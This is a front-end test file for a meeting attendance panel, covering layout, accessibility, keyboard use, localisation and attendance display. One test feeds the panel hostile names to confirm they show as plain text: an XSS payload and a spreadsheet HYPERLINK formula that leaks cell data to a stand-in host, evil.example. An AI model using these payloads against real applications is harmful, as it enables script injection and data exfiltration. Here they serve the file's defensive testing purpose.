import { readFile } from 'node:fs/promises'
import { join } from 'node:path'
import { gzipSync } from 'node:zlib'
import { describe, expect, it } from 'vitest'
import { at, head, hostileNames, person, snapshot } from './people.ts'
import { panelStage } from './panel-stage.ts'

const stage = panelStage()

describe('the first view', () => {
  it('costs at most 60 kB of compressed script', async () => {
    await stage.openPanel()
    const scripts = await stage.page.evaluate(() =>
      performance
        .getEntriesByType('resource')
        .map((entry) => new URL(entry.name).pathname)
        .filter((path) => path.endsWith('.js')),
    )
    const sizes = await Promise.all(
      [...new Set(scripts)].map(async (path) => gzipSync(await readFile(join(stage.dist, path))).length),
    )
    expect(sizes.length).toBeGreaterThan(0)
    expect(sizes.reduce((sum, size) => sum + size, 0)).toBeLessThanOrEqual(60_000)
  })

  it('says people, connections and waiting apart, and flags the unidentified', async () => {
    await stage.openPanel()
    const text = await stage.visibleText()
    for (const said of [
      '8 people here',
      '9 came',
      '1 left',
      '1 in the waiting room',
      '10 connections',
      '2 unidentified',
    ]) {
      expect(text).toContain(said)
    }
  })

  it('tells each person’s circumstances in one line', async () => {
    await stage.openPanel({ width: 900 })
    const text = await stage.visibleText()
    for (const said of [
      'Renamed at 19:07 · joined 18:07 · no e-mail',
      '2 devices · dropped 90 s · joined 18:04',
      'Before 18:16 · anna.s@example.org',
      'Left at 18:31 · joined 18:09',
      'In a breakout room',
      'Waiting for',
      'Left at 18:13 · only in the waiting room',
    ]) {
      expect(text).toContain(said)
    }
  })

  it('tells a beginning nobody saw as such to those who cannot see the bar', async () => {
    await stage.openPanel({ width: 900 })
    const bar = stage.page.getByRole('row').filter({ hasText: 'anna.s@example.org' }).getByRole('img')
    expect(((await bar.getAttribute('aria-label')) ?? '').replaceAll('\u00a0', ' ')).toBe(
      'Meeting before 18:16 – now',
    )
  })

  it('leaves out other names in which there is nothing to read', async () => {
    await stage.openPanel({
      people: [person('blank', { name: '\u00a0 ', names: ['', ' ', '\u00a0 ', 'iPhone'] })],
    })
    const name = stage.page.locator('[role=row][data-index="0"] > :first-child')
    expect(await name.locator('bdi').allTextContents()).toEqual(['No name', 'iPhone'])
  })

  it('draws the bars of all rows over one time, and somebody who came this moment as well', async () => {
    const here = (fromMinutes: number) => [
      { place: 'main' as const, from: at(fromMinutes), fromSeen: false, to: null },
    ]
    await stage.openWith({
      snapshot: snapshot(
        [
          person('half', { firstJoin: at(23.5), stays: here(23.5) }),
          person('new', { firstJoin: at(47), stays: here(47) }),
          person('whole', { firstJoin: at(0), stays: here(0) }),
        ],
        { gathering: head({ startedAt: null, witnesses: ['panel'] }) },
      ),
    })
    await stage.page.getByRole('grid').waitFor()
    const shares = await stage.page.getByRole('img').evaluateAll((bars) =>
      bars.map((bar) => {
        const stay = bar.firstElementChild?.getBoundingClientRect()
        return Math.round(((stay?.width ?? 0) / bar.getBoundingClientRect().width) * 100)
      }),
    )
    expect(shares).toEqual([50, 1, 100])
  })

  it('shows hostile names as the text they are', async () => {
    const alerts: string[] = []
    await stage.openPanel({ people: hostileNames() })
    stage.page.on('dialog', (dialog) => alerts.push(dialog.message()))
    const names = await stage.page
      .locator('[role=row][data-index] > :first-child bdi:first-child')
      .allTextContents()
    expect(names).toContain('</script><img src=x onerror=alert(1)>')
    expect(names).toContain('=HYPERLINK("http://evil.example/?"&A2;"name")')
    expect(await stage.page.locator('img').count()).toBe(0)
    expect(alerts).toEqual([])
  })
})

describe('fitting into any panel', () => {
  for (const width of [280, 372, 400, 900]) {
    for (const language of ['en', 'ru']) {
      it(`cuts nothing off at ${width} px in ${language}`, async () => {
        await stage.openPanel({ width, query: `?lang=${language}` })
        const cut = await stage.page.evaluate(() => {
          const tooWide = [document.scrollingElement, document.querySelector('main')].some(
            (element) => element !== null && element.scrollWidth > element.clientWidth,
          )
          const controls = [...document.querySelectorAll('button, select, input, p')]
          const outside = controls.filter((element) => {
            const box = element.getBoundingClientRect()
            return box.width > 1 && (box.left < 0 || box.right > innerWidth + 0.5)
          })
          return { tooWide, outside: outside.map((element) => element.outerHTML.slice(0, 120)) }
        })
        expect(cut).toEqual({ tooWide: false, outside: [] })
      })
    }
  }

  it('is a table with visible heads from 700 px', async () => {
    await stage.openPanel({ width: 900 })
    expect(await stage.page.getByRole('columnheader', { name: 'Minutes' }).isVisible()).toBe(true)
  })
})

describe('for everybody', () => {
  for (const [theme, language, width] of [
    ['light', 'en', 372],
    ['dark', 'ru', 372],
    ['light', 'ru', 900],
    ['dark', 'en', 900],
  ] as const) {
    it(`has no axe violation: ${theme}, ${language}, ${width} px, list and sheets`, async () => {
      await stage.openPanel({ width, query: `?lang=${language}&theme=${theme}` })
      expect(await stage.violations()).toEqual([])
      await stage.page.locator('[role=row][data-index="1"]').click()
      await stage.page.getByRole('dialog').waitFor()
      await stage.page.waitForTimeout(200)
      expect(await stage.violations()).toEqual([])
      await stage.page.keyboard.press('Escape')
      await stage.page.locator('main button[class*=main]').click()
      await stage.page.getByRole('dialog').waitFor()
      await stage.page.waitForTimeout(200)
      expect(await stage.violations()).toEqual([])
    })
  }

  it('works by keyboard alone: search, list, details and back', async () => {
    await stage.openPanel()
    await stage.page.keyboard.press('/')
    await stage.page.keyboard.type('person')
    await stage.page.keyboard.press('Escape')
    expect(await stage.page.locator('input[type=search]').inputValue()).toBe('')
    await stage.page.locator('[role=row][tabindex="0"]').focus()
    const focused = () => stage.page.evaluate(() => document.activeElement?.getAttribute('aria-rowindex'))
    await stage.page.keyboard.press('ArrowDown')
    await stage.page.keyboard.press('ArrowDown')
    expect(await focused()).toBe('4')
    await stage.page.keyboard.press('End')
    expect(await focused()).toBe('12')
    await stage.page.keyboard.press('Enter')
    await stage.page.getByRole('dialog').waitFor()
    await stage.page.keyboard.press('Tab')
    await stage.page.keyboard.press('Tab')
    expect(await stage.page.evaluate(() => document.activeElement?.closest('[role=dialog]') !== null)).toBe(
      true,
    )
    await stage.page.keyboard.press('Escape')
    await stage.page.waitForFunction(() => document.activeElement?.getAttribute('aria-rowindex') === '12')
    await stage.page.keyboard.press('Home')
    expect(await focused()).toBe('2')
  })

  it('switches language and theme in place, without touching the address', async () => {
    await stage.openPanel()
    await stage.page.getByRole('button', { name: 'Settings' }).click()
    await stage.page.getByRole('radio', { name: 'Русский' }).check()
    await stage.page.getByRole('radio', { name: 'Тёмная' }).check()
    expect(await stage.page.evaluate(() => document.documentElement.dataset['theme'])).toBe('dark')
    await stage.page.getByRole('button', { name: 'Сейчас' }).click()
    expect(await stage.visibleText()).toContain('Сейчас здесь')
    expect(stage.page.url()).toBe(`${stage.server.origin}/panel.html`)
  })
})
